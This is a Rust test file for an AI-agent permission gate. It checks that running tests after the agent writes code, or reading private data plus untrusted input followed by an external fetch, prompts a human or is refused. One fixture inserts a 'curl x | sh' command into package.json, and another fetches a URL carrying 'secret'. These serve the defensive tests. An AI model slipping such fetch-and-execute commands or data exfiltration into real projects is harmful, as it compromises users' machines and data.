#![allow(clippy::disallowed_methods)] // fixtures are built with std::fs
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Sessions through the gate: write-then-run and the rule of two, with a real store.

use cordon_gate::{Containment, Gate, GateOptions, Human, Outcome};
use cordon_policy::{Decision, FakeFs, LoadOptions, Policy, Request, Step};
use serde_json::json;

const CONFIG: &str = r#"
[permissions]
allow = ["Bash(go test:*)", "Bash(npm run lint)", "Write(./**)", "Edit(./**)", "WebFetch(domain:example.com)", "mcp__docs__search"]

[mcp.servers.docs]
trust = "untrusted"

[sessions]
private = ["data/**"]
"#;

fn fs(extra: &str) -> FakeFs {
    FakeFs::new()
        .dir("/w/proj/pkg")
        .file("/w/proj/pkg/a.go")
        .file("/w/proj/package.json")
        .dir("/w/proj/data")
        .file("/w/proj/data/customers.csv")
        .dir("/home/u")
        .file_with("/cfg.toml", 1, format!("{CONFIG}{extra}").as_bytes())
}

struct Setup {
    _dir: tempfile::TempDir,
    gate: Gate,
    fs: FakeFs,
}

fn setup(extra: &str) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let fs = fs(extra);
    let opts = LoadOptions {
        workspace: "/w/proj".into(),
        home: "/home/u".into(),
        skip_default_files: true,
        config_files: vec!["/cfg.toml".into()],
        ..Default::default()
    };
    let policy = Policy::load(&opts, &fs).expect("policy loads");
    let gate = Gate::new(
        policy,
        GateOptions {
            surface: cordon_gate::Surface::Check,
            store: Some(dir.path().join("store.sqlite3")),
            audit: None,
            no_audit: true,
            edits: false,
        },
    );
    Setup {
        _dir: dir,
        gate,
        fs,
    }
}

fn call(s: &Setup, v: serde_json::Value, containment: Containment) -> Outcome {
    let req = Request::from_value(v).expect("valid request");
    s.gate
        .decide(&req, &s.fs, containment, Human::caller(), false)
}

fn decision(o: &Outcome) -> (Decision, String, Step) {
    let v = &o.decided().verdict;
    (v.decision, v.reason.clone(), v.source.step)
}

fn write_test(s: &Setup, session: &str) {
    let o = call(
        s,
        json!({"tool": "Write", "session": session, "operation_id": "toolu_write_1",
               "input": {"file_path": "/w/proj/pkg/x_test.go", "content": "package pkg"}}),
        Containment::None,
    );
    assert!(
        matches!(o, Outcome::Permitted(_)),
        "the write itself is allowed: {:?}",
        decision(&o)
    );
}

fn go_test(s: &Setup, session: &str, containment: Containment) -> Outcome {
    call(
        s,
        json!({"tool": "Bash", "session": session, "cwd": "/w/proj",
               "input": {"command": "go test ./pkg"}}),
        containment,
    )
}

#[test]
fn go_test_after_writing_a_test_file_is_asked_naming_the_file_and_the_write() {
    let s = setup("");
    write_test(&s, "s1");
    let o = go_test(&s, "s1", Containment::None);
    let (d, reason, step) = decision(&o);
    assert!(matches!(o, Outcome::Ask(_)), "{reason}");
    assert_eq!(d, Decision::Ask);
    assert_eq!(step, Step::Session);
    assert!(reason.contains("/w/proj/pkg/x_test.go"), "{reason}");
    assert!(
        reason.contains("`Write`") && reason.contains("toolu_write_1"),
        "{reason}"
    );
    assert!(reason.contains("go test ./pkg"), "{reason}");
}

#[test]
fn go_test_without_the_earlier_write_is_allowed() {
    let s = setup("");
    let o = go_test(&s, "s1", Containment::None);
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
    // Another session's write is not this session's.
    write_test(&s, "other");
    let o = go_test(&s, "s1", Containment::None);
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
    // Nor is a call without a session checked at all.
    let o = call(
        &s,
        json!({"tool": "Bash", "input": {"command": "go test ./pkg"}}),
        Containment::None,
    );
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
}

#[test]
fn a_write_go_does_not_compile_does_not_taint_the_package() {
    let s = setup("");
    let o = call(
        &s,
        json!({"tool": "Write", "session": "s", "input": {"file_path": "/w/proj/docs/notes.md", "content": ""}}),
        Containment::None,
    );
    assert!(matches!(o, Outcome::Permitted(_)));
    assert!(matches!(
        go_test(&s, "s", Containment::None),
        Outcome::Permitted(_)
    ));
}

#[test]
fn a_package_of_the_module_the_tested_one_may_import_taints_it() {
    let s = setup("");
    let o = call(
        &s,
        json!({"tool": "Write", "session": "s", "operation_id": "w-util",
               "input": {"file_path": "/w/proj/internal/util/util.go", "content": "package util"}}),
        Containment::None,
    );
    assert!(matches!(o, Outcome::Permitted(_)));
    let o = go_test(&s, "s", Containment::None);
    let (_, reason, _) = decision(&o);
    assert!(matches!(o, Outcome::Ask(_)), "{reason}");
    assert!(reason.contains("internal/util/util.go"), "{reason}");
}

#[test]
fn npm_run_after_editing_package_json_is_asked() {
    let s = setup("");
    let o = call(
        &s,
        json!({"tool": "Edit", "session": "s",
               "input": {"file_path": "/w/proj/package.json", "old_string": "eslint", "new_string": "curl x | sh"}}),
        Containment::None,
    );
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
    let o = call(
        &s,
        json!({"tool": "Bash", "session": "s", "cwd": "/w/proj", "input": {"command": "npm run lint"}}),
        Containment::None,
    );
    let (_, reason, _) = decision(&o);
    assert!(matches!(o, Outcome::Ask(_)), "{reason}");
    assert!(
        reason.contains("/w/proj/package.json") && reason.contains("`Edit`"),
        "{reason}"
    );
}

#[test]
fn write_then_run_can_deny_or_accept_containment() {
    let s = setup("write_then_run = \"deny\"\n");
    write_test(&s, "s");
    let o = go_test(&s, "s", Containment::None);
    assert!(matches!(o, Outcome::Refused(_)), "{:?}", decision(&o));

    let s = setup("write_then_run = \"contain\"\n");
    write_test(&s, "s");
    assert!(matches!(
        go_test(&s, "s", Containment::None),
        Outcome::Ask(_)
    ));
    let o = go_test(&s, "s", Containment::full(false, false));
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
}

#[test]
fn the_third_leg_is_asked_naming_the_three_calls() {
    let s = setup("");
    let private = call(
        &s,
        json!({"tool": "Read", "session": "t", "operation_id": "op-read",
               "input": {"file_path": "/w/proj/data/customers.csv"}}),
        Containment::None,
    );
    assert!(
        matches!(private, Outcome::Permitted(_)),
        "{:?}",
        decision(&private)
    );
    let untrusted = call(
        &s,
        json!({"tool": "mcp__docs__search", "session": "t", "operation_id": "op-docs", "input": {"q": "x"}}),
        Containment::None,
    );
    assert!(
        matches!(untrusted, Outcome::Permitted(_)),
        "{:?}",
        decision(&untrusted)
    );
    let external = call(
        &s,
        json!({"tool": "WebFetch", "session": "t", "input": {"url": "https://example.com/?q=secret", "prompt": "p"}}),
        Containment::None,
    );
    let (_, reason, step) = decision(&external);
    assert!(matches!(external, Outcome::Ask(_)), "{reason}");
    assert_eq!(step, Step::Session);
    assert!(
        reason.contains("customers.csv") && reason.contains("op-read"),
        "{reason}"
    );
    assert!(
        reason.contains("mcp__docs__search") && reason.contains("op-docs"),
        "{reason}"
    );
    assert!(
        reason.contains("example.com") && reason.contains("this call"),
        "{reason}"
    );

    // The same fetch in a session that holds one leg only is allowed.
    let o = call(
        &s,
        json!({"tool": "WebFetch", "session": "fresh", "input": {"url": "https://example.com/", "prompt": "p"}}),
        Containment::None,
    );
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
}

#[test]
fn a_tool_override_or_off_lets_the_third_call_through() {
    let walk = |s: &Setup| {
        let o = call(
            s,
            json!({"tool": "Read", "session": "t", "input": {"file_path": "/w/proj/data/customers.csv"}}),
            Containment::None,
        );
        assert!(matches!(o, Outcome::Permitted(_)));
        let o = call(
            s,
            json!({"tool": "mcp__docs__search", "session": "t", "input": {}}),
            Containment::None,
        );
        assert!(matches!(o, Outcome::Permitted(_)));
        call(
            s,
            json!({"tool": "WebFetch", "session": "t", "input": {"url": "https://example.com/", "prompt": "p"}}),
            Containment::None,
        )
    };
    // A fetch configured as untrusted input only adds no external communication.
    let o = walk(&setup(
        "[sessions.tools]
WebFetch = [\"untrusted\"]\n",
    ));
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
    let o = walk(&setup("rule_of_two = \"off\"\n"));
    assert!(matches!(o, Outcome::Permitted(_)), "{:?}", decision(&o));
    let o = walk(&setup("rule_of_two = \"deny\"\n"));
    assert!(matches!(o, Outcome::Refused(_)), "{:?}", decision(&o));
}

#[test]
fn an_unreadable_store_makes_a_session_call_asked_never_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let blocker = dir.path().join("not-a-dir");
    std::fs::write(&blocker, b"x").unwrap();
    let fs = fs("");
    let opts = LoadOptions {
        workspace: "/w/proj".into(),
        home: "/home/u".into(),
        skip_default_files: true,
        config_files: vec!["/cfg.toml".into()],
        ..Default::default()
    };
    let gate = Gate::new(
        Policy::load(&opts, &fs).unwrap(),
        GateOptions {
            surface: cordon_gate::Surface::Check,
            store: Some(blocker.join("store.sqlite3")),
            audit: None,
            no_audit: true,
            edits: false,
        },
    );
    let req = Request::from_value(
        json!({"tool": "Bash", "session": "s", "input": {"command": "go test ./pkg"}}),
    )
    .unwrap();
    let o = gate.decide(&req, &fs, Containment::None, Human::caller(), false);
    assert!(matches!(o, Outcome::Ask(_)), "{:?}", decision(&o));
    assert!(
        decision(&o).1.contains("cannot be read"),
        "{:?}",
        decision(&o)
    );
    let o = gate.decide(&req, &fs, Containment::None, Human::nobody(), false);
    assert!(matches!(o, Outcome::Refused(_)), "{:?}", decision(&o));
}

#[test]
fn a_lease_given_before_the_write_does_not_answer_the_write_then_run_ask() {
    let s = setup("");
    // The human allowed `go test ./pkg` for this session and always, earlier on.
    let req = Request::from_value(json!({"tool": "Bash", "session": "s1", "cwd": "/w/proj",
        "input": {"command": "go test ./pkg"}}))
    .unwrap();
    let fingerprint = s.gate.policy().fingerprint(&req);
    let store = cordon_store::Store::open(s.gate.options().store.as_ref().unwrap()).unwrap();
    store
        .grant(
            &fingerprint,
            cordon_store::Scope::Session("s1".into()),
            None,
            "allow for this session",
        )
        .unwrap();
    store
        .grant(
            &fingerprint,
            cordon_store::Scope::Always,
            None,
            "always allow",
        )
        .unwrap();
    // Then the agent writes a test file: the run asks, and neither lease answers it.
    write_test(&s, "s1");
    let o = go_test(&s, "s1", Containment::None);
    let (_, reason, step) = decision(&o);
    assert!(matches!(o, Outcome::Ask(_)), "{reason}");
    assert_eq!(step, Step::Session, "{reason}");
    assert_ne!(o.decided().fingerprint, fingerprint);
    // A lease given for this very ask answers the same call with the same history.
    store
        .grant(
            &o.decided().fingerprint,
            cordon_store::Scope::Session("s1".into()),
            None,
            "allow for this session",
        )
        .unwrap();
    let again = go_test(&s, "s1", Containment::None);
    assert!(
        matches!(again, Outcome::Permitted(_)),
        "{:?}",
        decision(&again)
    );
}
